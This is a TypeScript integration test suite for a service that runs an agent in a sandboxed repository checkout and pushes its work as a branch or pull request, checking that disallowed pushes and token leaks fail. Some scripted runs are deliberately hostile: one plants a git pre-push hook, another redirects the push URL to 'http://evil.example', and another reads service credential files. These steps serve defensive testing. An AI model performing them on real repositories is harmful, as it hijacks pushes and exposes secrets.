// A run in an environment with a repository, from its checkout to the pull request: real processes, a real sandbox, and a
// code host that is git's own back end. What a run may not do, it tries.
import { createHash, randomBytes } from 'node:crypto';
import { readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { branchOf, type DeliveryPlan } from '../../src/engines/repository/plan-delivery.ts';
import { pushCommits } from '../../src/engines/repository/push-commits.ts';
import { leaveOut, needs } from '../support/needs.ts';
import { type GitHost, startGitHost } from '../support/runs/git-host.ts';
import { bash, openRunStand, type RunStand, type Tenant } from '../support/runs/run-stand.ts';
import { runIn, sandboxSkipReason, withSandbox } from '../support/sandbox/sandbox.ts';

const TOKEN = 'ghp_never_inside_0123456789';

describe(
  'a run with a repository',
  sandboxSkipReason === undefined ? needs('git', 'curl') : leaveOut(sandboxSkipReason),
  () => {
    let stand: RunStand;
    let tenant: Tenant;
    let host: GitHost;
    let token: string;
    let connection: string;
    let first: string;
    beforeAll(async () => {
      host = await startGitHost(TOKEN);
      stand = await openRunStand();
      tenant = await stand.newTenant();
      token = await stand.mint({ id: tenant.userId } as never, tenant.organization.id, [
        'jobs:read',
        'jobs:write',
        'connect:read',
        'connect:write',
      ]);
      const { body } = await ask('POST', '/connect/connections/import', {
        kind: 'code-host-token',
        provider: 'github',
        token: TOKEN,
        host: host.host,
      });
      connection = (body.connection ?? body).id as string;
      const made = await ask('PUT', '/environments/app', { repository: { connection: 'github', name: 'acme/app' } });
      if (made.status >= 300) throw new Error(`the environment answered ${made.status}: ${JSON.stringify(made.body)}`);
      first = (await host.git('rev-parse', 'HEAD')).trim();
    });
    afterAll(async () => {
      await stand?.close();
      await host?.close();
    });
    afterEach(() => stand.models.reset());

    const ask = (method: string, path: string, body?: unknown) => stand.request(method, path, { token, body });
    const start = (more: object = {}) =>
      ask('POST', '/agents/factory/jobs', { objective: 'Say more\nin the README', environment: 'app', ...more });
    async function runOf(command: string, more: object = {}, begin = () => start(more)): Promise<string> {
      stand.script(bash(command), { text: 'It says **more** now.' });
      const { status, body } = await begin();
      expect([status, body]).toMatchObject([202, { job: { environment: 'app' } }]);
      const { id } = body.job as { id: string };
      expect(await tenant.until(id, 'completed', 'failed')).toMatchObject({ status: 'completed' });
      return id;
    }
    const refs = async (): Promise<string[]> =>
      (await host.git('for-each-ref', '--format=%(refname)')).trim().split('\n');
    const setPush = (push: 'off' | 'branches') => ask('PUT', `/connect/connections/${connection}/policy`, { push });
    const resultOf = async (id: string): Promise<{ delivery?: Record<string, string> }> =>
      (await ask('GET', `/jobs/${id}`)).body.job.result;

    it('finds it checked out, and is shown with what it changed', async () => {
      const id = await runOf(
        'cat app/README; cd app; git push 2>&1 | grep -c 403; echo more >> README; cat /workspace/.service/*/*',
      );
      const events = await tenant.events(id);
      const said = JSON.stringify(events);
      expect(said).toContain('hello');
      expect(said).not.toContain(TOKEN);
      expect(events.flatMap(({ data }) => (data.progress?.type === 'checkout' ? [data.progress] : []))).toEqual([
        { type: 'checkout', repository: 'acme/app', commit: first },
      ]);
      expect((await ask('GET', `/jobs/${id}`)).body.job.changes).toEqual({ files: 1, additions: 1, deletions: 0 });
      const { body: changes } = await ask('GET', `/jobs/${id}/changes`);
      expect(changes).toMatchObject({ repository: 'acme/app', base: first, files: [{ path: 'README' }] });
      const patch = await fetch(`${stand.url}/jobs/${id}/changes`, {
        headers: { authorization: `Bearer ${token}`, accept: 'text/x-diff' },
      });
      expect([patch.status, patch.headers.get('content-type'), patch.headers.get('content-security-policy')]).toEqual([
        200,
        'text/x-diff',
        "default-src 'none'; sandbox",
      ]);
      expect(await patch.text()).toContain('\n+more\n');
      const stranger = await stand.newTenant();
      expect((await stranger.ask('GET', `/jobs/${id}/changes`)).status).toBe(404);
      expect(await refs()).toEqual(['refs/heads/master', 'refs/heads/other', 'refs/tags/v1']);
    });

    it('is refused where it may not deliver, before it starts', async () => {
      expect(await start({ deliver: 'branch' })).toMatchObject({ status: 403, body: { error: 'push_not_allowed' } });
      expect(await start({ deliver: 'branch', environment: undefined })).toMatchObject({
        status: 400,
        body: { error: 'invalid_request', details: { deliver: 'needs an environment that has a repository' } },
      });
      await setPush('branches');
      const weak = await stand.mint({ id: tenant.userId } as never, tenant.organization.id, [
        'jobs:read',
        'jobs:write',
        'connect:read',
      ]);
      expect(
        await stand.request('POST', '/agents/factory/jobs', {
          token: weak,
          body: { objective: 'x', environment: 'app', deliver: 'branch' },
        }),
      ).toMatchObject({ status: 403, body: { error: 'insufficient_scope' } });
      await setPush('off');
    });

    it('has its commits pushed to its branch and a pull request opened, by the service', async () => {
      await setPush('branches');
      const id = await runOf(
        "cd app; echo two >> README; git commit -qam second; git clone -q . inside; echo three > new; printf '#!/bin/sh\\ntouch /workspace/sprung\\n' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push; git config remote.origin.pushurl http://evil.example; git config url.http://evil.example/.insteadOf http://push.broker/",
        { deliver: 'pull-request' },
      );
      const { delivery } = await resultOf(id);
      expect(delivery).toMatchObject({
        branch: `runs/${id}`,
        commit: (await host.git('rev-parse', `refs/heads/runs/${id}`)).trim(),
        url: `http://${host.host}/acme/app/pull/7`,
      });
      expect(await host.git('show', `runs/${id}:README`)).toBe('hello\ntwo\n');
      expect(await host.git('ls-tree', '--name-only', `runs/${id}`)).toBe('README\nnew\n');
      expect(await host.git('log', '--format=%s', `${first}..runs/${id}`)).toBe(
        'What the run did not commit\nsecond\n',
      );
      expect(await host.git('rev-parse', 'refs/heads/master')).toBe(`${first}\n`);
      const asked = host.asked.find(({ url }) => url.endsWith('/pulls'));
      expect(JSON.parse(asked?.body ?? '')).toEqual({
        title: 'Say more',
        head: `runs/${id}`,
        base: 'master',
        body: 'It says **more** now.',
      });
      expect(JSON.stringify(await tenant.events(id))).not.toContain(TOKEN);
    });

    it('that wrote its history again is one commit on what it began from, and one that changed nothing pushes nothing', async () => {
      const again = await runOf('cd app; git checkout -q --orphan x; echo again > README; git commit -qam again', {
        deliver: 'branch',
      });
      expect(await host.git('log', '--format=%s', `runs/${again}`)).toBe('Changes of the run\nfirst\n');
      expect((await resultOf(again)).delivery).not.toHaveProperty('url');
      const nothing = await runOf('true', { deliver: 'branch' });
      expect((await resultOf(nothing)).delivery).toEqual({ problem: 'the run changed nothing' });
      expect(await refs()).not.toContain(`refs/heads/runs/${nothing}`);
    });

    it('is pushed when a recipe or a schedule starts it, too, which are refused where a run would be', async () => {
      const run = { objective: 'Say {{what:more}}', environment: 'app', deliver: 'branch' };
      const { status, body } = await ask('POST', '/recipes', { name: 'pushed', run });
      expect([status, body]).toMatchObject([201, { recipe: { run } }]);
      const { body: file } = await ask('GET', `/recipes/${body.recipe.id}/export`);
      expect(file).toMatchObject({ run: { environment: 'app', deliver: 'branch' } });
      const plan = { name: 'Each year', cron: '0 0 1 1 *', timezone: 'UTC', run: { ...run, objective: 'Say more' } };
      const made = await ask('POST', '/schedules', plan);
      expect([made.status, made.body]).toMatchObject([201, { schedule: { run: plan.run } }]);

      for (const path of [`/recipes/${body.recipe.id}/run`, `/schedules/${made.body.schedule.id}/run`]) {
        const id = await runOf('cd app; echo by itself > new', {}, () => ask('POST', path, {}));
        expect(await resultOf(id)).toMatchObject({ delivery: { branch: `runs/${id}` } });
        expect(await host.git('show', `runs/${id}:new`)).toBe('by itself\n');
      }

      const weak = await stand.mint({ id: tenant.userId } as never, tenant.organization.id, [
        'jobs:read',
        'jobs:write',
      ]);
      const scope = { status: 403, body: { error: 'insufficient_scope' } };
      expect(await stand.request('POST', '/schedules', { token: weak, body: plan })).toMatchObject(scope);
      expect(await stand.request('POST', `/recipes/${body.recipe.id}/run`, { token: weak, body: {} })).toMatchObject(
        scope,
      );
      await setPush('off');
      const refused = { status: 403, body: { error: 'push_not_allowed' } };
      expect(await ask('POST', '/schedules', plan)).toMatchObject(refused);
      expect(await ask('PATCH', `/recipes/${body.recipe.id}`, { run })).toMatchObject(refused);
      expect(await ask('POST', '/recipes/import', { recipe: file, name: 'again' })).toMatchObject({
        status: 201,
        body: { recipe: { run }, unknown: [{ code: 'push_not_allowed', name: 'app' }] },
      });
      const { environment: _, ...nowhere } = file.run;
      expect(await ask('POST', '/recipes/import', { recipe: { ...file, run: nowhere } })).toMatchObject({
        status: 400,
        body: { error: 'invalid_request', details: { 'recipe.run.deliver': 'needs an environment' } },
      });
      await setPush('branches');
    });

    it('pushes nothing once the right is taken away while it works', async () => {
      stand.script(
        bash(
          'cd app; echo x > x; until [ -e /workspace/go ]; do sleep 0.1; [ $((++n)) -gt 50 ] && touch /workspace/go; done',
        ),
        {
          text: 'Done.',
        },
      );
      const { body } = await start({ deliver: 'branch' });
      const { id } = body.job as { id: string };
      await expect
        .poll(async () => (await tenant.events(id)).some(({ data }) => data.progress?.type === 'tool.started'), {
          timeout: 60_000,
        })
        .toBe(true);
      await setPush('off');
      expect(await tenant.until(id, 'completed', 'failed')).toMatchObject({ status: 'completed' });
      expect((await resultOf(id)).delivery).toEqual({
        problem: 'the settings of the connection do not allow pushing',
      });
      expect(await refs()).not.toContain(`refs/heads/runs/${id}`);
      await setPush('branches');
    });

    describe('through the broker of a delivery', () => {
      const plan = (run: string): DeliveryPlan => ({
        branch: branchOf(run),
        address: 'http://push.broker/acme/app.git',
        host: host.host,
        network: {
          brokers: [
            {
              host: 'push.broker',
              target: `http://${host.host}`,
              headers: { authorization: `Basic ${Buffer.from(`x-access-token:${TOKEN}`).toString('base64')}` },
              paths: [
                'GET /acme/app.git/info/refs',
                'POST /acme/app.git/git-upload-pack',
                'POST /acme/app.git/git-receive-pack',
              ],
              pushes: `refs/heads/${branchOf(run)}`,
            },
          ],
        },
      });

      it.each([
        ['the default branch', 'HEAD:refs/heads/master'],
        ['the default branch by force', '+HEAD:refs/heads/master'],
        ['a tag', 'HEAD:refs/tags/v2'],
        ['the branch of another run', 'HEAD:refs/heads/runs/job_other'],
        ['its branch and another', 'HEAD:refs/heads/runs/job_x HEAD:refs/heads/more'],
        ['a deletion', ':refs/heads/other'],
        ['everything', '--mirror'],
      ])('git pushes nothing to %s', async (_, what) => {
        const before = await host.git('for-each-ref');
        await withSandbox(stand.sandbox.client, { network: plan('job_x').network }, async (id) => {
          const { stderr, exit } = await runIn(
            stand.sandbox.client,
            id,
            `git clone -q http://push.broker/acme/app.git app && cd app && git config user.email a@b && git config user.name a && echo x > x && git add . && git commit -qm x && git push http://push.broker/acme/app.git ${what}`,
          );
          expect([exit.code, stderr]).not.toEqual([0, '']);
          expect(exit.code).not.toBe(0);
        });
        expect(await host.git('for-each-ref')).toBe(before);
      });

      it('the branch of the run is pushed', async () => {
        await withSandbox(stand.sandbox.client, { network: plan('job_y').network }, async (id) => {
          const { exit } = await runIn(
            stand.sandbox.client,
            id,
            'git clone -q http://push.broker/acme/app.git app && cd app && git config user.email a@b && git config user.name a && head -c 3000000 /dev/urandom > x && git add . && git commit -qm x && git push http://push.broker/acme/app.git HEAD:refs/heads/runs/job_y',
          );
          expect(exit.code).toBe(0);
        });
        expect(await refs()).toContain('refs/heads/runs/job_y');
      });

      it('what is not a bundle is refused in words', async () => {
        const checkout = { connection, repository: 'acme/app', directory: '/workspace/app', base: first };
        const refused = pushCommits(
          stand.sandbox.client,
          {
            plan: plan('job_z'),
            checkout,
            bundle: Buffer.from('# v2 git bundle\nnonsense'),
            request: { title: '', text: '' },
          },
          AbortSignal.timeout(60_000),
        );
        await expect(refused).rejects.toThrow('git could not push');
        expect(await refs()).not.toContain('refs/heads/runs/job_z');
      });
    });

    it('fetches only what is new since an earlier run, and all of it where what was kept is of no use', async () => {
      const large = randomBytes(1_500_000).toString('base64');
      const has = (small: string): string =>
        `${createHash('sha256').update(large).digest('hex')}  large\n${small}\n1\nyes\n`;
      const look =
        'cd app; git status --short; sha256sum large; cat small; git rev-list --count HEAD; [ ! -e ../.service-kept* ] && echo yes';
      const fetched = async (): Promise<{ bytes: number; said: unknown }> => {
        const before = host.asked.length;
        const ended = (await tenant.events(await runOf(look))).find(({ data }) => data.progress?.type === 'tool.ended');
        const bytes = host.asked.slice(before).reduce((sum, { sent = 0 }) => sum + sent, 0);
        return { bytes, said: ended?.detail.output };
      };
      const kept = join(stand.directory, 'checkouts');
      await rm(kept, { recursive: true, force: true });
      await host.commit('large', large);
      await host.commit('small', 'one\n');
      const whole = await fetched();
      expect(whole.said).toBe(has('one'));
      expect(whole.bytes).toBeGreaterThan(1_000_000);

      await host.commit('small', 'two\n');
      const less = await fetched();
      expect(less.said).toBe(has('two'));
      expect(less.bytes).toBeLessThan(100_000);

      const packs = (await readdir(kept, { recursive: true })).filter((name) => name.endsWith('.pack'));
      expect(packs).toHaveLength(1);
      const pack = join(kept, packs[0] ?? '');
      await writeFile(pack, (await readFile(pack)).subarray(0, 1_000));
      const again = await fetched();
      expect(again.said).toBe(has('two'));
      expect(again.bytes).toBeGreaterThan(1_000_000);
      expect((await fetched()).bytes).toBeLessThan(100_000);
    });
  },
);
